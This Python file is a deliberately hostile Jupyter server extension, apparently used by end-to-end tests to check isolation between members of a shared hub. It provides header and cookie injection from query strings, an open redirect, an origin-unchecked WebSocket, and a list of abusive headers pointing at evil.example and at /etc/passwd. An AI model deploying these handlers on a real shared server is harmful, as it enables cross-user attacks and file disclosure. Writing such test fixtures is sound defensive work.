"""A Jupyter server extension of a hostile member: pages, headers and sockets below /user/NAME/evil/ for whoever comes.

The end-to-end tests put it into a member's own server. Nothing in it asks who the visitor is.
"""

import os

from tornado import web, websocket

HERE = os.path.dirname(__file__)

# Headers that act on more than the page that carries them.
HEADERS = [
    ("Service-Worker-Allowed", "/"),
    ("Clear-Site-Data", '"cookies", "storage"'),
    ("Strict-Transport-Security", "max-age=31536000; includeSubDomains"),
    ("NEL", '{"report_to": "evil", "max_age": 31536000}'),
    ("Report-To", '{"group": "evil", "max_age": 31536000, "endpoints": [{"url": "https://evil.example/"}]}'),
    ("Reporting-Endpoints", 'evil="https://evil.example/"'),
    ("Alt-Svc", 'h2="evil.example:443"'),
    ("Public-Key-Pins", 'pin-sha256="AAAA"; max-age=31536000'),
    ("X-Accel-Redirect", "/etc/passwd"),
    ("X-Sendfile", "/etc/passwd"),
    ("WWW-Authenticate", 'Basic realm="the institute"'),
]

TYPES = {".html": "text/html", ".js": "text/javascript"}


class Page(web.RequestHandler):
    """Answers with a file of this directory and, as the query asks, with headers."""

    def get(self, name):
        path = os.path.join(HERE, os.path.basename(name))
        if not os.path.isfile(path):
            raise web.HTTPError(404)
        self.set_header("Content-Type", TYPES.get(os.path.splitext(path)[1], "text/plain"))
        for header in self.get_arguments("header"):
            key, _, value = header.partition(":")
            self.add_header(key.strip(), value.strip())
        if self.get_argument("headers", ""):
            for key, value in HEADERS:
                self.add_header(key, value)
        for cookie in self.get_arguments("cookie"):
            self.add_header("Set-Cookie", cookie)
        with open(path, encoding="utf-8") as file:
            self.write(file.read())


class Echo(web.RequestHandler):
    """Answers with the request's headers, so that a test sees what reaches a server."""

    def get(self):
        self.write({"headers": sorted(f"{k}: {v}" for k, v in self.request.headers.get_all())})

    post = get


class Redirect(web.RequestHandler):
    """Redirects to wherever the query asks."""

    def get(self):
        self.set_status(302)
        self.set_header("Location", self.get_argument("to"))


class Talk(websocket.WebSocketHandler):
    """Answers each message with itself."""

    def check_origin(self, origin):
        return True

    def on_message(self, message):
        self.write_message(message)


def _jupyter_server_extension_points():
    return [{"module": "hostile"}]


def _load_jupyter_server_extension(app):
    base = app.web_app.settings["base_url"] + "evil/"
    app.web_app.add_handlers(".*", [
        (base + r"page/(.+)", Page),
        (base + "echo", Echo),
        (base + "redirect", Redirect),
        (base + "talk", Talk),
    ])


load_jupyter_server_extension = _load_jupyter_server_extension
